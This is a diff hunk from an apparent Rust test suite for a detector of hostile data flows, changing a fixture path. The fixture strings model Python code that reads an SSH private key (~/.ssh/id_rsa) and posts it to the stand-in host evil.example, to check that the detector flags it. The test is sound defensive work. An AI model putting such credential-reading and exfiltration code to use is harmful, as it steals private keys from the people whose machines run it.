@@ -302,7 +302,7 @@ fn data_is_followed_by_all_ways() {
         ]);
         assert!(found.iter().any(|rule| rule == "AL-FLOW-download-execute"), "{decoy}: {found:?}");
         let found = rules(&[
-            ("z/src.py", "d = open('/root/.ssh/id_rsa').read()\n"),
+            ("z/src.py", "d = open('/home/me/.ssh/id_rsa').read()\n"),
             ("z/both.py", &both("src", "d")),
             ("z/__init__.py", "import requests\nfrom .both import d\nrequests.post('http://evil.example/', data=d)\n"),
         ]);
